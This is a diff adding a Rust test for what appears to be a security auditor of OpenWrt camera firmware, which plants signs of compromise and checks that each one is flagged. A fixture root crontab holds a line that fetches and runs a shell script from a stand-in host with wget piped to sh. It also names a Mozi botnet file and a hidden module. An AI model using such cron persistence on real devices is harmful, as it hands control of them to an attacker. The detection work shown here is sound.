@@ -289,3 +289,99 @@ fn a_million_sockets_end_in_time_and_memory() {
     assert!(evidence(&report, "trace.port").contains("sockets were not looked at"));
     assert!(evidence(&report, "trace.port").contains("lines make no sense"));
 }
+
+#[test]
+fn planted_files_are_found() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("openwrt");
+    let overlay = "/dev/mtdblock6 /overlay jffs2 rw 0 0\noverlayfs:/overlay / overlay rw,lowerdir=/,upperdir=/overlay/upper,workdir=/overlay/work 0 0\n";
+    camera.write(
+        "proc/mounts",
+        format!("{overlay}/dev/mmcblk0p1 /mnt/card vfat rw 0 0\n"),
+    );
+    let script = "#!/bin/sh\n: x\n";
+    // In the firmware; in a package; in the overlay alone.
+    for (name, lower, listed) in [
+        ("S10own", true, false),
+        ("S20package", false, true),
+        ("S99evil", false, false),
+    ] {
+        camera.write(&format!("etc/init.d/{name}"), script);
+        if lower {
+            camera.write(&format!("rom/etc/init.d/{name}"), script);
+        } else {
+            camera.write(&format!("overlay/upper/etc/init.d/{name}"), script);
+        }
+        if listed {
+            camera.write("usr/lib/opkg/info/package.list", format!("/etc/init.d/{name}\n"));
+        }
+    }
+    for name in ["telnet", "rcS"] {
+        camera.write(&format!("rom/etc/init.d/{name}"), script);
+    }
+    let pem = "-----BEGIN PRIVATE KEY-----\nx\n-----END PRIVATE KEY-----\n";
+    camera.write("etc/own.key", pem);
+    camera.write("overlay/upper/etc/own.key", pem);
+    camera.write("etc/series.key", pem);
+    camera.write(
+        "etc/crontabs/root",
+        "# fine\n*/5 * * * * wget -qO- http://192.0.2.1/x | sh\n0 3 * * * /tmp/.x/run\n",
+    );
+    camera.write("tmp/.x/run", "\x7fELF");
+    camera.write("tmp/Mozi.m", "x");
+    camera.write("proc/cmdline", "console=ttyS0 init=/bin/sh\n");
+    camera.write("proc/modules", "sensor 1 0 - Live 0\nhidden_one 1 0 - Live 0\n");
+    camera.write("lib/modules/6.12.1/sensor.ko", "x");
+    camera.write(
+        "var/log/messages",
+        "dropbear[7]: Bad password attempt for 'root' from 192.0.2.9\n",
+    );
+    camera.process(
+        60,
+        "/usr/bin/dropbear",
+        b"dropbear",
+        b"dropbear\0-s\0-p\x0022",
+        &[],
+    );
+    fs::set_permissions(
+        camera.path("etc/init.d/S10own"),
+        fs::Permissions::from_mode(0o777),
+    )
+    .unwrap();
+    let report = camera.report();
+    for (id, verdict_of, what) in [
+        ("start.added", "fail", "/etc/init.d/S99evil"),
+        ("start.download", "fail", "fetches and runs"),
+        ("start.download", "fail", "runs `/tmp/.x/run`"),
+        ("start.loader", "fail", "init=/bin/sh"),
+        ("start.console", "fail", "/etc/inittab:3"),
+        ("start.writable", "fail", "/etc/init.d/S10own"),
+        ("trace.file", "fail", "/tmp/.x/run"),
+        ("trace.file", "fail", "/tmp/Mozi.m"),
+        ("trace.module", "unknown", "hidden_one"),
+        ("trace.log", "fail", "1 failed logins"),
+        ("account.key", "fail", "/etc/series.key"),
+        ("account.ssh", "pass", "keys alone"),
+        ("system.mount", "fail", "/mnt/card"),
+        ("system.storage", "pass", "KiB are free"),
+        ("account.service", "unknown", "is not known"),
+    ] {
+        assert_eq!(verdict(&report, id), verdict_of, "{id}: {}", rule(&report, id));
+        assert!(
+            evidence(&report, id).contains(what),
+            "{what}: {}",
+            evidence(&report, id)
+        );
+    }
+    let added = evidence(&report, "start.added");
+    assert!(
+        !added.contains("S10own") && !added.contains("S20package"),
+        "{added}"
+    );
+    let keys = rule(&report, "account.key")["evidence"].as_array().unwrap();
+    let own = keys.iter().find(|key| key["source"] == "/etc/own.key").unwrap();
+    assert_eq!(own["verdict"], "pass");
+    assert!(!evidence(&report, "trace.module").contains("sensor"));
+}
